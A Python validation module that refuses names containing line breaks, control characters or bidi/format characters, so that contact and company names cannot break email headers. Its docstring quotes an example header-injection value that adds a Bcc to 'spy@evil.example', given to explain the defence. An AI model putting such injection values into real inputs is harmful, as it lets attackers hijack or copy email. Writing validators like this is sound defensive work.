"""Names people and things carry (contacts, reps, companies, sequences): one line of visible text.

A name ends up in an email's From and Subject headers and on every page. A line break there would
start a new header (`A\r\nBcc: spy@evil.example`), and bidi overrides or other invisible format
characters make a name read differently from what it is, so such names are refused when written.
Ordinary spaces are fine; the zero-width (non-)joiner stays allowed because Persian, Indic and emoji
sequences need it.
"""

from __future__ import annotations

import unicodedata

_JOINERS = frozenset("\u200c\u200d")
_REFUSED_CATEGORIES = frozenset({"Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn"})


def name_problem(value: str) -> str | None:
    """Why this name cannot be stored (in words, with the character's code point), or None if it can."""
    for position, char in enumerate(value, start=1):
        if char == " " or char in _JOINERS:
            continue
        category = unicodedata.category(char)
        if category in _REFUSED_CATEGORIES or (char.isspace() and category != "Zs"):
            what = "a line break" if category in ("Zl", "Zp") or char in "\r\n\v\f\x85" else (
                "a tab" if char == "\t" else "an invisible or control character")
            return f"contains {what} (U+{ord(char):04X}) at character {position}: a name is one line of visible text"
    return None


def one_line(value: str) -> str:
    """The value with every line break, control and format character turned into a space: for
    building headers from names stored before they were checked (a second line of defence)."""
    return "".join(" " if char not in _JOINERS and (unicodedata.category(char) in _REFUSED_CATEGORIES
                                                     or (char.isspace() and unicodedata.category(char) != "Zs"))
                   else char for char in value)
